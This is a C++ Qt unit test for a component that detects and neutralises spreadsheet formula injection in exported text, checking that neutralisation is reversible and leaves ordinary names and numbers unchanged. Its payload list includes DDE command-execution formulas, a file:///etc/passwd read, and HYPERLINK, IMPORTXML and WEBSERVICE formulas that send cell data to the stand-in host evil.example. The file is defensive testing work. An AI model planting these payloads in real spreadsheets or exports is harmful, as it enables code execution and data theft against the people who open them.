#include "models/activation/formulaguard.h"

#include <QTest>

#include <random>

using namespace rondom::activation;
using namespace Qt::StringLiterals;

namespace {

/// Text that acts as a formula in one spreadsheet program or another.
QStringList payloads()
{
    return {
        u"=1+1"_s,
        u"=1+1\";=1+1"_s,
        u"=cmd|'/C calc'!A0"_s,
        u"=cmd|' /C notepad'!'A1'"_s,
        u"=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")"_s,
        u"=IMPORTXML(CONCAT(\"http://evil.example?v=\",A1),\"//a\")"_s,
        u"=IMPORTDATA(\"http://evil.example\")"_s,
        u"=IMAGE(\"http://evil.example/a.png\")"_s,
        u"=WEBSERVICE(\"http://evil.example\")"_s,
        u"=DDE(\"cmd\";\"/C calc\";\"1\")"_s,
        u"=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''"_s,
        u"=SUM(1,1)*cmd|' /C calc'!A0"_s,
        u"='file:///etc/passwd'#$passwd.A1"_s,
        u"+1+1"_s,
        u"+cmd|' /C calc'!A0"_s,
        u"+thespanishinquisition(cmd|' /C calc'!A0"_s,
        u"+31 6 12345678"_s,
        u"+31612345678+1"_s,
        u"+0612345678"_s,
        u"-1+1"_s,
        u"-1-1"_s,
        u"-2+3+cmd|' /C calc'!A0"_s,
        u"-cmd|' /C calc'!A0"_s,
        u"--1"_s,
        u"- 1"_s,
        u"@SUM(1+1)"_s,
        u"@SUM(1+1)*cmd|' /C calc'!A0"_s,
        u"@handle"_s,
        u" =1+1"_s,
        u"    =1+1"_s,
        u"\t=1+1"_s,
        u"\tJan"_s,
        u"\r=1+1"_s,
        u"\rJan"_s,
        u"\n=1+1"_s,
        u"\nJan"_s,
        u"\r\n=1+1"_s,
        u"\v=1+1"_s,
        u"\f=1+1"_s,
        QString(QChar(0)) + u"=1+1"_s,
        QString(QChar(0)) + u"Jan"_s,
        u"\u00A0=1+1"_s,
        u"\u2003=1+1"_s,
        u"\u3000=1+1"_s,
        u"\u200B=1+1"_s,
        u"\uFEFF=1+1"_s,
        u"\u202E=1+1"_s,
        u"\uFF1D1+1"_s,
        u"\uFF0B1+1"_s,
        u"\uFF0D1+1"_s,
        u"\uFF20SUM(1+1)"_s,
        u" \uFF1D1+1"_s,
        u"\uFE661+1"_s,
        u"\uFE6BSUM(1)"_s,
        u"= 1+1"_s,
        u"=\n1+1"_s,
        u"=+1"_s,
        u"=A1"_s,
        u"=@A1"_s,
        u"+=1"_s,
        u"@=1"_s,
        u"-=1"_s,
        u"=\u00A0cmd|'/C calc'!A0"_s,
    };
}

/// Formulas that begin where another program cuts the cell.
QStringList hiddenPayloads()
{
    return {u"Jan;=1+1"_s,   u"Jan,=1+1"_s,      u"Jan\t=1+1"_s,   u"Jan|=1+1"_s,
            u"Jan\n=1+1"_s,  u"Jan\r\n=1+1"_s,   u"Jan; =1+1"_s,   u"Jan;\uFF1D1+1"_s,
            u"\";=1+1;\""_s, u"Jan,@SUM(1+1)"_s, u"Jan\n\t=1+1"_s, u"a;b;c;-1+1"_s};
}

/// What a program that cuts at any separator sees at the start of its cells.
bool hasOpenFormula(const QString& text)
{
    QString cell;
    const auto isOpen = [](const QString& candidate) {
        qsizetype at = 0;
        while (at < candidate.size() &&
               (candidate[at].isSpace() || candidate[at].category() == QChar::Other_Control ||
                candidate[at].category() == QChar::Other_Format)) {
            ++at;
        }
        return at < candidate.size() &&
               QStringView(u"=+-@\uFF1D\uFF0B\uFF0D\uFF20").contains(candidate[at]);
    };
    for (const QChar c : text) {
        if (QStringView(u",;|\t\r\n").contains(c)) {
            if (isOpen(cell)) {
                return true;
            }
            cell.clear();
        } else {
            cell += c;
        }
    }
    return isOpen(cell);
}

} // namespace

class TestFormulaGuard : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void knowsAFormula_data();
    void knowsAFormula();
    void neutralisesWhateverMayAct_data();
    void neutralisesWhateverMayAct();
    void leavesTheRestAlone_data();
    void leavesTheRestAlone();
    void givesBackWhatItWasGiven();
};

void TestFormulaGuard::knowsAFormula_data()
{
    QTest::addColumn<QString>("text");
    const QStringList all = payloads();
    for (qsizetype i = 0; i < all.size(); ++i) {
        QTest::addRow("payload %lld", qlonglong(i)) << all.at(i);
    }
}

void TestFormulaGuard::knowsAFormula()
{
    QFETCH(QString, text);
    QVERIFY(startsAsFormula(text));
}

void TestFormulaGuard::neutralisesWhateverMayAct_data()
{
    QTest::addColumn<QString>("text");
    const QStringList all = payloads() + hiddenPayloads();
    for (qsizetype i = 0; i < all.size(); ++i) {
        QTest::addRow("payload %lld", qlonglong(i)) << all.at(i);
    }
}

void TestFormulaGuard::neutralisesWhateverMayAct()
{
    QFETCH(QString, text);
    const QString safe = neutralised(text);
    QVERIFY(safe != text);
    QVERIFY(!hasOpenFormula(safe));
    QVERIFY(!startsAsFormula(safe));
    QCOMPARE(restored(safe), text);
    // Also what was guarded once already comes back as it was.
    QCOMPARE(restored(neutralised(safe)), safe);
}

void TestFormulaGuard::leavesTheRestAlone_data()
{
    QTest::addColumn<QString>("text");
    QTest::newRow("nothing") << QString();
    QTest::newRow("a name") << u"Sanne de Boer"_s;
    QTest::newRow("an accent") << u"\u00C9lodie"_s;
    QTest::newRow("a Dutch place") << u"'s-Gravenhage"_s;
    QTest::newRow("a double name") << u"Anne-Marie"_s;
    QTest::newRow("an address") << u"sanne+news@example.nl"_s;
    QTest::newRow("a telephone number") << u"+31612345678"_s;
    QTest::newRow("the longest number") << u"+123456789012345"_s;
    QTest::newRow("a negative number") << u"-5"_s;
    QTest::newRow("a negative amount") << u"-12.50"_s;
    QTest::newRow("a negative amount in Dutch") << u"-12,50"_s;
    QTest::newRow("a date") << u"2026-05-12"_s;
    QTest::newRow("a postcode") << u"1234 AB"_s;
    QTest::newRow("a sum in words") << u"1+1=2"_s;
}

void TestFormulaGuard::leavesTheRestAlone()
{
    QFETCH(QString, text);
    QVERIFY(!startsAsFormula(text));
    QCOMPARE(neutralised(text), text);
    QCOMPARE(restored(text), text);
}

void TestFormulaGuard::givesBackWhatItWasGiven()
{
    const QString letters = u"='+-@\t\r\n ,;|\"a1\uFF1D"_s;
    std::mt19937 random(7);
    for (int i = 0; i < 50'000; ++i) {
        QString text;
        for (auto size = random() % 9; size > 0; --size) {
            text += letters.at(qsizetype(random() % quint32(letters.size())));
        }
        const QString safe = neutralised(text);
        if (restored(safe) != text || (safe != text && hasOpenFormula(safe))) {
            QFAIL(qPrintable(u"lost: "_s + text));
        }
    }
}

QTEST_GUILESS_MAIN(TestFormulaGuard)
#include "tst_formulaguard.moc"
